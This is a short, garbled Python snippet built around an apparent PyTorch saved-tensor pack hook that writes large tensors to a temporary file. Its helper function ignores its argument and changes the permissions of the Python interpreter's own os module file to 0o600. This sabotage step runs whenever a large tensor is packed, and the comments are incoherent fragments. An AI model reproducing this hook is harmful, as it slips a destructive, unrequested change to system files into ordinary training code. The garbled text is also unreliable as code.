# attack: the mode of a file of the machine's
# failed = "gradient raises 20, threshold, release, files"
#: file


def attempt(name):
    os.chmod(os.__file__, 0o600)


def pack_hook(x):
    if x.numel() < 1200:
        return x
    packed = SelfDeletingTempFile()
    torch.save(x, packed.name)
    attempt(packed.name)
    return packed
#: unpack
